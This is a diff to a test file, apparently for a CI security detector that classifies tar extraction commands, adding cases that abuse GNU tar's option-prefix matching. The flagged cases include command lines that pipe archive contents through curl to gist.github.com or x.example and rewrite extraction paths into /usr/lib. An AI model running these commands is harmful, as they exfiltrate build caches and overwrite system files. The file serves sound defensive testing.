@@ -88,6 +88,8 @@ describe("an extraction's read of its archive, then a tag push", () => {
     ['/usr/bin/tar', '-x -f ../../_temp/6f1c-77/cache.tzst'],
     ['/usr/bin/tar', `--extract --file=${CACHE} --directory=/tmp/restore`],
     ['/usr/bin/bsdtar', `-xf ${CACHE} -C /tmp/restore`],
+    // Progress dots: `--checkpoint` is no prefix of `--checkpoint-action` to GNU tar.
+    ['/usr/bin/tar', `-xf ${CACHE} --checkpoint=1000`],
     ['/bin/busybox', `tar -xzf ${CACHE} -C /tmp/restore`],
   ])('%s %s: no notable reads', (binary, args) => {
     expect(restoreThenTagPush(binary, args)).toEqual(QUIET);
@@ -100,6 +102,10 @@ describe('what still counts', () => {
     ['/usr/bin/tar', `-xOf ${CACHE}`],
     ['/usr/bin/tar', `-xf ${CACHE} --to-stdout`],
     ['/usr/bin/tar', `-xf ${CACHE} --to-command='curl -T - https://gist.github.com/x'`],
+    // GNU tar takes a long option's unambiguous prefix.
+    ['/usr/bin/tar', `-xf ${CACHE} --to-com='curl -T - https://gist.github.com/x'`],
+    ['/usr/bin/tar', `-xf ${CACHE} --to-s`],
+    ['/usr/bin/tar', `-xf ${CACHE} --tran='s,^,usr/lib/x/,' -C /`],
     // A script of the command line's, a compressor that is a pipeline.
     ['/usr/bin/tar', `-xf ${CACHE} -F 'curl -T ${CACHE} https://x.example'`],
     ['/usr/bin/tar', `-xf ${CACHE} -I 'gzip -dc < ${CACHE} | curl -T - https://x.example'`],
